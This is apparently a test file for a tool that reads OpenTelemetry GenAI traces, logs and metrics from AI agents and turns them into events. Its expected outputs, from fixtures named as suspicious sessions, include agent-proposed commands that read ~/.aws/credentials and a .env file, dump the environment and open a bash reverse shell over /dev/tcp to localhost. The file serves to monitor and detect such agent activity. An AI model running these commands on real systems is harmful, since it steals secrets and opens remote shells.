import { LIMITS, RECORDED_AT, fixture, line, step, tell } from '../../test/support/recorded';
import { spans } from '../../test/scenarios/tell/otlp';
import { decodeRequest } from '../receive/otlp/decode';

const CAPTURE = 'OTEL_INSTRUMENTATION_GENAI_CAPTURE_MESSAGE_CONTENT=true';

describe('spans', () => {
  const { events, ignored, unknownScopes } = tell(fixture('genai/conventions'));
  const spans = events.filter(({ source }) => source.signal === 'span');

  it('reads older and newer names', () => {
    expect(spans.map(line)).toEqual([
      'execute_tool run_command completed: exec command=pytest -q (exit 2)',
      'execute_tool bash completed: exec command=id (ok)',
      'execute_tool bash completed: exec command=false (error)',
      'execute_tool bash completed: exec',
      'chat some-model completed: model.call provider=openai model=some-model inputTokens=1200 cachedInputTokens=1000 outputTokens=30 (ok)',
      'chat some-model completed: exec command=echo one (exit 0)',
      'chat some-model completed: output text=Next.',
      'chat some-model proposed: exec command=cat ~/.aws/credentials',
      'chat old-model completed: model.call provider=openai model=old-model inputTokens=70 outputTokens=7 (ok)',
      'chat old-model completed: prompt text=Look around. origin=unknown',
      'chat old-model proposed: exec command=uname -a',
      'chat old-model completed: model.call provider=openai model=old-model (ok)',
      'chat old-model completed: prompt text=And now? origin=unknown',
      'chat old-model completed: output text=Nothing more.',
    ]);
  });

  it('joins by the call id, whichever name it has', () => {
    const ids = spans.filter(({ action }) => action.type === 'exec').map(({ callId }) => callId);
    expect(ids).toEqual(['call_9x', 'call_old', 'call_e', 'call_h', 'call_1', 'call_2', 'call_3']);
  });

  it('says what failed, and what would show what is hidden', () => {
    expect(spans[2]?.outcome).toMatchObject({ status: 'error', error: 'tool raised' });
    expect(spans[3]?.visibility).toEqual([
      { field: 'outcome.output', state: 'hidden', setting: CAPTURE },
      { field: 'action.command', state: 'hidden', setting: CAPTURE },
    ]);
  });

  it('counts records of scopes that nobody knows, and sums of an agent as duplicates', () => {
    expect(unknownScopes).toBe(13);
    expect(ignored).toContainEqual({ dialect: 'genai', reason: 'duplicate', count: 2 });
    expect(ignored).toContainEqual({ dialect: 'genai', reason: 'unknown event', count: 1 });
  });

  it('takes what an event of an inference adds, without counting its tokens again', () => {
    const logs = events.filter(({ source }) => source.signal === 'log');
    expect(logs.map(line)).toEqual([
      'gen_ai.client.inference.operation.details completed: output text=Next.',
      'gen_ai.client.inference.operation.details proposed: exec command=cat ~/.aws/credentials',
    ]);
  });

  it('keeps the start and series of token sums', () => {
    const sums = events.filter(({ source }) => source.signal === 'metric').map(({ action }) => action);
    expect(sums).toEqual([
      {
        type: 'model.call',
        provider: 'openai',
        model: 'old-model',
        inputTokens: 5200,
        metric: {
          name: 'gen_ai.client.token.usage',
          temporality: 'cumulative',
          startAt: 1795248000000,
          series: 'gen_ai.request.model=old-model,gen_ai.system=openai,gen_ai.token.type=input',
        },
      },
      expect.objectContaining({ outputTokens: 74 }),
      expect.objectContaining({ inputTokens: 900, metric: expect.objectContaining({ temporality: 'delta' }) }),
    ]);
  });
});

describe('frameworks that keep to the conventions', () => {
  const { events, unknownScopes } = tell(fixture('genai/frameworks'));

  it('reads arguments and results in events of the span, and names of Pydantic AI’s older versions', () => {
    expect(events.map(line)).toEqual([
      'execute_tool shell completed: exec command=curl -s http://127.0.0.1:9/x (ok)',
      'execute_tool shell completed: exec command=whoami (ok)',
      'chat completed: model.call provider=strands-agents model=some-model inputTokens=50 outputTokens=5 (ok)',
      'chat completed: exec command=whoami',
      'chat proposed: exec command=groups',
      'running tool completed: exec command=ls /srv (ok)',
      'execute_tool read_file completed: file.read path=/srv/app/.env (ok)',
      'execute_tool read_file completed: file.read',
      'execute_tool lookup completed: tool.call',
      'execute_tool Shell-run completed: tool.call',
      'execute_tool completed: exec command=env',
    ]);
    expect(events[0]?.outcome?.output).toBe('connection refused');
    expect(unknownScopes).toBe(0);
  });

  it('names the setting of each, none where there is none', () => {
    const settings = events.slice(7).map(({ visibility }) => visibility?.[0]?.setting);
    expect(settings).toEqual([
      'InstrumentationSettings(include_content=True)',
      undefined,
      'SEMANTICKERNEL_EXPERIMENTAL_GENAI_ENABLE_OTEL_DIAGNOSTICS_SENSITIVE=true',
      CAPTURE,
    ]);
  });
});

describe('a log for each message', () => {
  const { events, ignored } = tell(fixture('genai/openai-suspicious-full'));

  it('tells a call when the model asks for it, and what came back by its id alone', () => {
    expect(step(events, 1).slice(0, 2)).toEqual([
      "gen_ai.choice proposed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'",
      'gen_ai.tool.message completed: tool.call (exit 1)',
    ]);
    const answer = events.find(({ action }) => action.type === 'tool.call');
    expect(answer?.action).toEqual({ type: 'tool.call', tool: '' });
  });

  it('says the same each time the conversation is logged again', () => {
    const answers = events.filter((event) => event.callId?.includes('S01x') && event.action.type === 'tool.call');
    expect(answers.length).toBeGreaterThan(1);
    expect(new Set(answers.map(({ outcome }) => JSON.stringify(outcome))).size).toBe(1);
    expect(ignored).toContainEqual({ dialect: 'genai', reason: 'repeated conversation', count: 4 });
  });

  it('keys by the host, since each call is a trace of its own', () => {
    expect(new Set(events.map(({ scope }) => scope))).toEqual(new Set(['host:devbox']));
    expect(new Set(events.flatMap(({ trace }) => trace?.traceId ?? [])).size).toBeGreaterThan(10);
  });

  it('says what would show the content', () => {
    const hidden = tell(fixture('genai/openai-suspicious-default')).events;
    const calls = hidden.filter(({ action }) => action.type === 'exec');
    expect(calls).toHaveLength(16);
    for (const { visibility } of calls) {
      expect(visibility).toEqual([
        { field: 'action.command', state: 'hidden', setting: 'captureMessageContent: true' },
      ]);
    }
  });
});

it('takes user, account and repository by the general conventions, from the record before its resource', () => {
  const request = decodeRequest(
    'traces',
    'json',
    Buffer.from(
      JSON.stringify(
        spans({ 'user.id': 'service', 'cloud.account.id': '111122223333', 'vcs.repository.name': 'shop' }, 'own', [
          {
            name: 'execute_tool run',
            traceId: 'a'.repeat(32),
            spanId: 'b'.repeat(16),
            from: RECORDED_AT - 5,
            to: RECORDED_AT,
            keys: { 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'run', 'enduser.id': 'u-7' },
          },
        ]).body,
      ),
    ),
    LIMITS,
  );
  expect(tell([request]).events[0]).toMatchObject({ user: 'u-7', account: '111122223333', repository: 'shop' });
});
